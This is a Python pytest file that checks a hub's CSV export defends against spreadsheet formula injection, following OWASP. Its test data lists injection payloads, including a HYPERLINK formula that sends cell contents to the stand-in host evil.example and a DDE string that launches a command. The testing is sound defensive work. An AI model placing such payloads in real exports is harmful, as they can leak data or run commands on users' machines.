"""CSV output: no cell the hub writes can run as a formula in a spreadsheet (OWASP CSV Injection)."""

from __future__ import annotations

import csv
import io

import pytest

from boeinghub_dagster.domain.intake import parse_intake_file, rejected_lines_csv
from boeinghub_dagster.domain.safe_csv import csv_bytes, safe_cell

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "@SUM(A1)",
    "=CMD|' /C calc'!A0",
    "=1+2",
    "+A1",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("value", INJECTIONS)
def test_a_cell_starting_with_a_formula_character_gets_a_single_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["BACB30LH3-4", "WF338109=K3", "", " =1", "'=1", "a=b", 7, -3, None])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_csv_bytes_neutralises_header_and_every_cell_and_quotes_as_rfc_4180():
    data = csv_bytes(("=h", "b"), [(1, '=x,"y"'), (2, "ok")])
    assert list(csv.reader(io.StringIO(data.decode()))) == [["'=h", "b"], ["1", '\'=x,"y"'], ["2", "ok"]]


def test_the_rejected_lines_file_echoes_no_formula():
    content = ("\n".join(["BACB30LH3-4", "WF338109=K3", *(v.strip() for v in INJECTIONS[:6])]) + "\n").encode()
    parsed = parse_intake_file("formulas.txt", content)
    assert parsed.part_numbers == ["BACB30LH3-4", "WF338109=K3"]  # the `=` suffix inside a part number still works
    rows = list(csv.reader(io.StringIO(rejected_lines_csv(parsed.rejected).decode("utf-8"))))
    assert rows[0] == ["line", "value", "reason"] and len(rows) == 7
    for row in rows[1:]:
        assert row[1].startswith("'") and row[1][1:] in INJECTIONS
        assert "a spreadsheet would run it as a formula" in row[2] or "not allowed" in row[2]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
